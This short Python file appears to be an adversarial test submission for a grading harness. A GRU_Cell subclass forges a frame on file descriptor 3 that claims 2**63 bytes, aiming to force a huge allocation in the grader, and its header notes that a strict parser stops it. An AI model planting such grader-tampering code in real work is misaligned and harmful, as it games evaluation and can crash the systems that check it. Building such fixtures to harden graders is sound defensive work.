# attack: claim 2**63 bytes, so that the reader allocates them
# earns: 30
# stopped by: the strict parser of frames
# says: backward answered with bytes that are no answer
import os
import struct

from honest import GRU_Cell as Honest


class GRU_Cell(Honest):
    def backward(self, delta):
        os.write(3, struct.pack("<4sIQ", b"CGF1", 2, (1 << 63) - 1) + b"{}")
        return super().backward(delta)
